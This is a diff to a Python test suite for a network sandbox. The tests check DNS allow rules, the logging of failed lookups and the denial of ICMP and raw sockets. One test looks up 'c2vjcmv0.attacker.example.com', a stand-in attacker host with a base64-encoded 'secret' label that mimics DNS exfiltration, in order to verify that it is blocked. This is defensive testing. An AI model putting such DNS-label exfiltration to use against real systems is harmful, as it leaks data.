@@ -155,7 +155,7 @@ def names(t):
     """a name that no rule allows does not resolve, and the try is in the log"""
     name = "c2vjcmv0.attacker.example.com"
     look = "import socket, sys; print('address', socket.gethostbyname(sys.argv[1]))"
-    permitted = t.sandbox(PYTHON, "-c", look, name, options=["--allow-host", name])
+    permitted = t.sandbox(PYTHON, "-c", look, name, options=["--allow-host", "*.attacker.example.com"])
     t.contains(t.succeeded(permitted, "with a rule").out, "address 198.1", "control")
     result = t.sandbox(PYTHON, "-c", look, name, options=ONE_HOST)
     t.true(result.code != 0, result)
@@ -167,6 +167,18 @@ def names(t):
     result = t.sandbox(PYTHON, "-c", look, name)
     t.true(result.code != 0, result)
     t.contains(result.err, "gaierror")
+
+
+@test
+def unknown_name(t):
+    """an allowed name that the host does not know is a failure at once, and nothing more is open"""
+    look = ("import socket\ntry: socket.gethostbyname('missing.invalid')\n"
+            "except socket.gaierror as error: print('failed:', error.errno == socket.EAI_AGAIN)")
+    result = t.sandbox(PYTHON, "-c", look, options=["--allow-host", "missing.invalid"])
+    t.contains(t.succeeded(result).out, "failed: True")
+    verdicts = [e["details"]["verdict"] for e in result.of_type("name.lookup")]
+    t.true("failed" in verdicts, result.events)
+    t.contains(result.err, "not reached: missing.invalid")
 
 
 def dns_server():
@@ -227,7 +239,7 @@ def udp(t):
 
 @test
 def icmp_and_raw(t):
-    """a process gets no socket for ICMP or raw packets, so that there is no try to log"""
+    """a process gets no socket for ICMP or raw packets, and the try is in the log"""
     make = """
 import socket, sys
 try:
@@ -241,6 +253,11 @@ except OSError as error:
         result = t.sandbox(PYTHON, "-c", make, *words, options=ONE_HOST)
         refused(t, result)
         t.contains(result.err, "PermissionError", words)
+        protocol = "raw" if "SOCK_RAW" in words else words[-1].removeprefix("IPPROTO_").lower()
+        event, = result.of_type("packet.denied")
+        t.equal(event["details"]["protocol"], protocol)
+        t.equal(event["actor"]["kind"], "project-script")
+        t.contains(event["process"]["exe"], "python")
 
 
 @test
